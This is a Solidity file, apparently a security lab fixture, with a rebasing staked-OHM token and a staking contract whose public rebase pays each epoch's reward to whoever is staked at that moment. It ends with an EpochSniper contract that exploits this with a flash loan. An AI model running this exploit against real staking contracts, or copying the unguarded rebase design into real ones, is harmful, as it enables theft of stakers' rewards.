// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Staked tokens whose balances grow all at once: what an account has is kept in fragments.
contract StakedOhm {
    string public constant name = "Staked OHM";
    string public constant symbol = "sOHM";
    uint8 public constant decimals = 9;
    uint256 public fragments;
    uint256 public index = 1e18; // base units for 10^18 fragments
    address public immutable staking = msg.sender;
    mapping(address => uint256) public fragmentsOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 rebase, uint256 index);

    modifier onlyStaking() {
        require(msg.sender == staking, "only staking");
        _;
    }

    function rebase(uint256 profit, uint256 epoch) external onlyStaking {
        if (fragments > 0) index += profit * 1e18 / fragments;
        emit LogRebase(epoch, profit, index);
    }

    function issue(address to, uint256 amount) external onlyStaking {
        uint256 part = amount * 1e18 / index;
        fragments += part;
        fragmentsOf[to] += part;
        emit Transfer(address(0), to, amount);
    }

    function retire(address from, uint256 amount) external onlyStaking {
        uint256 part = (amount * 1e18 + index - 1) / index;
        if (part > fragmentsOf[from]) part = fragmentsOf[from];
        fragments -= part;
        fragmentsOf[from] -= part;
        emit Transfer(from, address(0), amount);
    }

    function balanceOf(address who) public view returns (uint256) {
        return fragmentsOf[who] * index / 1e18;
    }

    function totalSupply() external view returns (uint256) {
        return fragments * index / 1e18;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        uint256 part = value * 1e18 / index;
        fragmentsOf[msg.sender] -= part;
        fragmentsOf[to] += part;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

/// Gives every epoch's gain to whoever is staked at the moment when somebody says that the epoch is over.
contract OhmStaking {
    Token public immutable ohm;
    StakedOhm public immutable sohm = new StakedOhm();
    uint256 public immutable epochLength;
    uint256 public immutable reward;
    uint256 public epoch;
    uint256 public endsAt;

    event Stake(address indexed who, uint256 amount);
    event Unstake(address indexed who, uint256 amount);

    constructor(Token ohm_, uint256 epochLength_, uint256 reward_) {
        (ohm, epochLength, reward) = (ohm_, epochLength_, reward_);
        endsAt = block.timestamp + epochLength_;
    }

    function stake(uint256 amount) external {
        ohm.transferFrom(msg.sender, address(this), amount);
        sohm.issue(msg.sender, amount);
        emit Stake(msg.sender, amount);
    }

    function unstake(uint256 amount) external {
        sohm.retire(msg.sender, amount);
        ohm.transfer(msg.sender, amount);
        emit Unstake(msg.sender, amount);
    }

    function rebase() external {
        require(block.timestamp >= endsAt, "not over");
        (epoch, endsAt) = (epoch + 1, endsAt + epochLength);
        ohm.mint(address(this), reward);
        sohm.rebase(reward, epoch);
    }
}

/// Is there for the length of the rebase, with other people's tokens.
contract EpochSniper {
    OhmStaking private staking;

    function snipe(FlashLender lender, OhmStaking staking_, uint256 loan, address payee) external {
        staking = staking_;
        Token ohm = staking_.ohm();
        lender.flashLoan(IBorrower(address(this)), ohm, loan, "");
        ohm.transfer(payee, ohm.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token ohm, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        ohm.approve(address(staking), amount);
        staking.stake(amount);
        staking.rebase();
        staking.unstake(staking.sohm().balanceOf(address(this)));
        ohm.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
